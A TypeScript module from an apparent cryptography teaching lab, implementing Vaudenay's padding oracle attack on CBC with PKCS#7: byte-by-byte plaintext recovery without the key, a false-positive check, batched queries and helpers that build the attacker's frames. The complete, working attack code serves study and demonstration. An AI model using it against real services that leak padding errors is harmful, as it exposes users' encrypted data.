// Lesson 2, the maths: Vaudenay's padding oracle attack (EUROCRYPT 2002) on CBC with PKCS#7.
// For a ciphertext block Cᵢ, CBC decryption is Pᵢ = I ⊕ Cᵢ₋₁ with I = CIPH⁻¹_K(Cᵢ) (SP 800-38A
// §6.2). The attacker sends the two blocks X ‖ Cᵢ, with X a chosen "previous block" (the IV of a
// one-block message), and the receiver decrypts I ⊕ X and says whether its padding is valid
// (RFC 5652 §6.3). To learn I[k], set X[m] = I[m] ⊕ n for the known bytes m > k (n = 16 − k, the
// pad length being aimed for) and try every value g of X[k]: the padding is valid when I[k] ⊕ g = n,
// so I[k] = g ⊕ n. Once all 16 bytes of I are known, Pᵢ = I ⊕ Cᵢ₋₁, and the key was never needed.
// Pure and async: the oracle is injected (node:crypto, a TCP server, an HTTP route, the browser).
import { BLOCK_SIZE, checkPkcs7 } from './pkcs7';
import { CryptoError } from './errors';

/** What a receiver said to one query: whether the padding passed, and its own answer when it gives one. */
export interface OracleVerdict {
  valid: boolean;
  /** the receiver's answer as it gave it ('ack', an error code); absent when it only says yes or no */
  answer?: string;
}

/** true (or a verdict that says valid) when the receiver accepted the padding of IV ‖ ciphertext. */
export type PaddingOracle = (iv: Uint8Array, ciphertext: Uint8Array) => Promise<boolean | OracleVerdict>;

/**
 * Several queries at once, X₁ ‖ C, X₂ ‖ C, …, answered in order: what an attacker on a network does
 * to save round trips (one request, many frames on the wire). Every query sent is counted.
 */
export type BatchOracle = (ivs: Uint8Array[], ciphertext: Uint8Array) => Promise<OracleVerdict[]>;

export interface GuessEvent {
  type: 'guess';
  /** the ciphertext block being attacked (0-based); its chain input is the IV or block − 1 */
  block: number;
  /** the byte of I being learnt, 15 down to 0 */
  byte: number;
  /** the value of X[byte] sent */
  guess: number;
  /** the forged previous block that was sent, X */
  forged: Uint8Array;
  valid: boolean;
  /** the receiver's own answer, when the oracle gave one */
  answer?: string;
  /** a second query for the last byte, with X[14] changed, to rule out a longer pad (below) */
  recheck: boolean;
  /** all queries so far, every block */
  queries: number;
  /** queries spent on this byte so far */
  byteQueries: number;
  /** I for this block as known so far: null where not yet learnt */
  intermediate: (number | null)[];
}

export interface ByteEvent {
  type: 'byte';
  block: number;
  byte: number;
  /** I[byte] */
  intermediate: number;
  /** Pᵢ[byte] = I[byte] ⊕ Cᵢ₋₁[byte] */
  plaintext: number;
  byteQueries: number;
  queries: number;
}

export interface BlockEvent {
  type: 'block';
  block: number;
  intermediate: Uint8Array;
  plaintext: Uint8Array;
  queries: number;
}

export type AttackEvent = GuessEvent | ByteEvent | BlockEvent;

export interface AttackOptions {
  iv: Uint8Array;
  ciphertext: Uint8Array;
  oracle: PaddingOracle;
  onEvent?: (e: AttackEvent) => void | Promise<void>;
  /** stops the attack between queries */
  signal?: AbortSignal;
  /** attack only these blocks (default: all) */
  blocks?: number[];
  /**
   * Ask the guesses for a byte `size` at a time (in order, 0 up), through `oracle`. The guesses
   * after the accepted one in its batch were sent too and are counted; the bound of 256 queries per
   * byte still holds (recoverBlock). The false-positive check and a last lone guess go through
   * the one-query oracle.
   */
  batch?: { size: number; oracle: BatchOracle };
}

export type AttackResult =
  | {
      ok: true;
      /** the recovered plaintext with its padding */
      padded: Uint8Array;
      /** without the PKCS#7 padding, or null when the recovered padding is not valid */
      plaintext: Uint8Array | null;
      intermediate: Uint8Array;
      queries: number;
      /** the most queries any one byte took: at most 256 */
      maxByteQueries: number;
    }
  | {
      ok: false;
      /** where no guess was accepted (0-based block index): the oracle does not leak the padding */
      block: number;
      byte: number;
      /** what was recovered before that, block by block */
      recovered: Uint8Array;
      queries: number;
      reason: 'no-valid-guess' | 'aborted';
      message: string;
    };

/** The 256 values of X[k] in the order they are tried: 0, 1, … 255. */
const GUESSES = Array.from({ length: 256 }, (_, g) => g);

/**
 * Recover every plaintext block of IV ‖ ciphertext with a padding oracle, without the key.
 * Every byte costs at most 256 queries, the false-positive check included (see recoverBlock).
 */
export async function paddingOracleAttack(o: AttackOptions): Promise<AttackResult> {
  const n = o.ciphertext.length / BLOCK_SIZE;
  if (!Number.isInteger(n) || n === 0)
    throw new CryptoError(
      'ERR_CIPHERTEXT_LENGTH',
      `ciphertext: expected whole 16-byte blocks, got ${o.ciphertext.length} bytes`,
      { expected: 'a multiple of 16', actual: o.ciphertext.length }
    );
  if (o.iv.length !== BLOCK_SIZE)
    throw new CryptoError('ERR_IV_LENGTH', `iv: expected 16 bytes, got ${o.iv.length}`, {
      expected: 16,
      actual: o.iv.length
    });
  const which = o.blocks ?? Array.from({ length: n }, (_, i) => i);
  const padded = new Uint8Array(o.ciphertext.length);
  const intermediate = new Uint8Array(o.ciphertext.length);
  const counter = { queries: 0, maxByteQueries: 0 };
  for (const i of which) {
    const cipherBlock = o.ciphertext.subarray(i * BLOCK_SIZE, (i + 1) * BLOCK_SIZE);
    const chainInput = i === 0 ? o.iv : o.ciphertext.subarray((i - 1) * BLOCK_SIZE, i * BLOCK_SIZE);
    const r = await recoverBlock(i, cipherBlock, o, counter);
    if (!r.ok) {
      return {
        ok: false,
        block: i,
        byte: r.byte,
        recovered: padded.slice(0, i * BLOCK_SIZE),
        queries: counter.queries,
        reason: r.reason,
        message:
          r.reason === 'aborted'
            ? 'stopped'
            : // counted from 1 as SP 800-38A §6.2 counts C₁…Cₙ (and src/lib/lessons/diagnose words it); `block` stays an index
              `block ${i + 1} of ${n}, byte ${r.byte}: none of the 256 values was accepted; the receiver's answers do not depend on the padding, so there is nothing to learn`
      };
    }
    const p = new Uint8Array(BLOCK_SIZE);
    for (let j = 0; j < BLOCK_SIZE; j++) p[j] = r.intermediate[j] ^ chainInput[j];
    padded.set(p, i * BLOCK_SIZE);
    intermediate.set(r.intermediate, i * BLOCK_SIZE);
    await o.onEvent?.({
      type: 'block',
      block: i,
      intermediate: r.intermediate,
      plaintext: p,
      queries: counter.queries
    });
  }
  const check = checkPkcs7(padded);
  return {
    ok: true,
    padded,
    plaintext: check.ok ? padded.subarray(0, padded.length - check.padLength) : null,
    intermediate,
    queries: counter.queries,
    maxByteQueries: counter.maxByteQueries
  };
}

type BlockOutcome =
  { ok: true; intermediate: Uint8Array } | { ok: false; byte: number; reason: 'no-valid-guess' | 'aborted' };

/**
 * I = CIPH⁻¹_K(Cᵢ), byte 15 first.
 *
 * The false positive: for byte 15 the aim is a pad of 0x01, but X[0..14] are arbitrary, so
 * I ⊕ X might already end in 0x02 at byte 14, and then a second value of X[15] makes 0x02 0x02,
 * also valid. At most one such longer pad exists (byte 14 cannot equal two pad values at once), so
 * byte 15 has one or two accepted values. The first accepted value is checked again with X[14]
 * changed: a 0x01 pad stays valid, a longer one breaks. That check is the only extra query, and it
 * stays within 256 per byte: when the first hit is confirmed, it came at guess ≤ 254 (≤ 256 queries
 * in all) or at guess 255 with no earlier hit (no check needed: a false hit implies a true one
 * elsewhere); when it is refuted, the true value is among the remaining guesses, and if none of
 * the first 255 hit, the last one is it without asking.
 */
async function recoverBlock(
  block: number,
  cipherBlock: Uint8Array,
  o: AttackOptions,
  counter: { queries: number; maxByteQueries: number }
): Promise<BlockOutcome> {
  const I: (number | null)[] = new Array(BLOCK_SIZE).fill(null);
  for (let k = BLOCK_SIZE - 1; k >= 0; k--) {
    const pad = BLOCK_SIZE - k;
    const x = new Uint8Array(BLOCK_SIZE);
    for (let m = k + 1; m < BLOCK_SIZE; m++) x[m] = I[m]! ^ pad;
    let byteQueries = 0;
    let found: number | null = null;
    let refuted = false; // byte 15 only: a hit that turned out to be a longer pad
    const answers = new Map<number, boolean>(); // guess → valid, for this byte
    const forgedFor = (g: number, recheck: boolean): Uint8Array => {
      const forged = x.slice();
      forged[k] = g;
      if (recheck) forged[k - 1] ^= 0xff;
      return forged;
    };
    const record = async (g: number, recheck: boolean, forged: Uint8Array, v: boolean | OracleVerdict) => {
      const valid = typeof v === 'boolean' ? v : v.valid;
      counter.queries++;
      byteQueries++;
      await o.onEvent?.({
        type: 'guess',
        block,
        byte: k,
        guess: g,
        forged,
        valid,
        ...(typeof v === 'boolean' || v.answer === undefined ? {} : { answer: v.answer }),
        recheck,
        queries: counter.queries,
        byteQueries,
        intermediate: I.slice()
      });
      return valid;
    };
    const askOne = async (g: number, recheck: boolean): Promise<boolean> => {
      if (o.signal?.aborted) throw new AbortedError();
      const forged = forgedFor(g, recheck);
      return record(g, recheck, forged, await o.oracle(forged, cipherBlock));
    };
    // Batches stop at guess 254 for byte 15: 255 is asked alone, and only when nothing before it
    // was accepted, so the check and the batch rounding together stay within 256 (see above).
    const lastBatched = k === BLOCK_SIZE - 1 ? 254 : 255;
    const answer = async (g: number): Promise<boolean> => {
      const known = answers.get(g);
      if (known !== undefined) return known;
      if (!o.batch || g > lastBatched) return askOne(g, false);
      if (o.signal?.aborted) throw new AbortedError();
      const n = Math.min(Math.max(1, Math.floor(o.batch.size)), lastBatched - g + 1);
      const forged = Array.from({ length: n }, (_, j) => forgedFor(g + j, false));
      const verdicts = await o.batch.oracle(forged, cipherBlock); // one per guess, in order (BatchOracle)
      for (let j = 0; j < n; j++) {
        if (o.signal?.aborted) throw new AbortedError();
        answers.set(g + j, await record(g + j, false, forged[j], verdicts[j]));
      }
      return answers.get(g)!;
    };
    try {
      for (let t = 0; t < GUESSES.length && found === null; t++) {
        const g = GUESSES[t];
        if (k === BLOCK_SIZE - 1 && refuted && t === GUESSES.length - 1) {
          found = g; // a padding oracle accepted something, and every other value is ruled out
          break;
        }
        if (!(await answer(g))) continue;
        if (k === BLOCK_SIZE - 1 && !refuted && t < GUESSES.length - 1) {
          if (await askOne(g, true)) found = g;
          else refuted = true;
        } else found = g;
      }
    } catch (err) {
      if (err instanceof AbortedError) return { ok: false, byte: k, reason: 'aborted' };
      throw err;
    }
    counter.maxByteQueries = Math.max(counter.maxByteQueries, byteQueries);
    if (found === null) return { ok: false, byte: k, reason: 'no-valid-guess' };
    I[k] = found ^ pad;
    await o.onEvent?.({
      type: 'byte',
      block,
      byte: k,
      intermediate: I[k]!,
      plaintext: I[k]! ^ chainAt(o, block, k),
      byteQueries,
      queries: counter.queries
    });
  }
  return { ok: true, intermediate: Uint8Array.from(I as number[]) };
}

function chainAt(o: AttackOptions, block: number, k: number): number {
  return block === 0 ? o.iv[k] : o.ciphertext[(block - 1) * BLOCK_SIZE + k];
}

class AbortedError extends Error {}

/**
 * A padding oracle made from a decryption function, for the local (in-browser) fallback and for
 * tests: valid when the decrypted plaintext has valid PKCS#7 padding.
 */
export function localOracle(decryptPadded: (iv: Uint8Array, ciphertext: Uint8Array) => Uint8Array): PaddingOracle {
  return async (iv, ciphertext) => checkPkcs7(decryptPadded(iv, ciphertext)).ok;
}

// ---- the attacker's frames on the CBC Lab wire (docs/protocol.md §4, docs/api.md "Lessons") ----

/** Server answers that mean "this frame did not decrypt"; any other answer means the padding passed. */
export const REJECTIONS: ReadonlySet<string> = new Set([
  'ERR_BAD_PADDING',
  'ERR_BAD_MAC',
  'ERR_BAD_TAG',
  'ERR_DECRYPT'
]);

/**
 * The payload a guess X ‖ Cᵢ travels in, per suite: cbc IV ‖ C; cbc-hmac IV ‖ C ‖ tag (the
 * captured tag, or zeros: without the MAC key no right tag can be made); gcm has no IV block, so
 * the first 12 bytes of X are the nonce, then C, then the tag.
 */
export function guessPayload(
  suite: 'cbc' | 'cbc-hmac' | 'gcm',
  iv: Uint8Array,
  ciphertext: Uint8Array,
  tag?: Uint8Array
): Uint8Array {
  const parts =
    suite === 'cbc'
      ? [iv, ciphertext]
      : suite === 'cbc-hmac'
        ? [iv, ciphertext, tag ?? new Uint8Array(32)]
        : [iv.subarray(0, 12), ciphertext, tag ?? new Uint8Array(16)];
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let o = 0;
  for (const p of parts) {
    out.set(p, o);
    o += p.length;
  }
  return out;
}
